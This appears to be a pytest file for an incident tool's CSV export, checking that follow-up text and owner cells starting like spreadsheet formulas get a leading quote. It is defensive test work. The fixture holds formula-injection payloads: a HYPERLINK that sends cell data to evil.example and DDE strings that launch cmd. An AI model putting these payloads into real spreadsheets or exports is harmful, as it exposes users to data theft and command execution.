"""Follow-ups as CSV never carry a live spreadsheet formula (issue 8, item 5).

A follow-up typed as ``/fu =HYPERLINK("http://evil/?"&A1) @dan`` reached
``warroom followups --format csv`` as is: opened in Excel, LibreOffice or Google
Sheets it is a formula. OWASP's advice: a cell starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return gets a leading ``'``; nothing else in it
changes. The JSON export keeps every value exact.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from warroom.clock import FrozenClock
from warroom.db.store import Store
from warroom.playbook import default_playbook
from warroom.service import Service

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["rotate the key", 'say "hi", then =SUM(A1)', "'quoted already", " =spaced", "1-2"]


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "fu.db"
    store = Store(path)
    try:
        ops = Service(store, FrozenClock("2026-11-23T22:00:00Z"), default_playbook())
        inc = ops.declare(severity=2, title="t", author="zoe")
        for text in FORMULAS + HARMLESS:
            ops.add_followup(inc.id, "zoe", text, "dan", "2026-12-01")
        ops.add_followup(inc.id, "zoe", "owner is a formula", "=cmd()", "2026-12-01")
        ops.add_followup(inc.id, "zoe", "owner starts with @", "@here", "2026-12-01")
    finally:
        store.close()
    return path


def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(run_cli, db):
    code, out, err = run_cli("--db", db, "followups", "1", "--format", "csv")
    assert (code, err) == (0, "")
    rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
    texts = [row[2] for row in rows]
    assert texts[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
    # Text that is not a formula is exactly as typed.
    assert texts[len(FORMULAS) : len(FORMULAS) + len(HARMLESS)] == HARMLESS
    # The owner column is user text too.
    assert [row[3] for row in rows[-2:]] == ["'=cmd()", "'@here"]
    # No cell of any row starts like a formula.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_json_keeps_every_value_exact(run_cli, db):
    code, out, err = run_cli("--db", db, "followups", "1", "--format", "json")
    assert (code, err) == (0, "")
    rows = json.loads(out)
    assert [row["text"] for row in rows[: len(FORMULAS)]] == FORMULAS
    assert [row["owner"] for row in rows[-2:]] == ["=cmd()", "@here"]
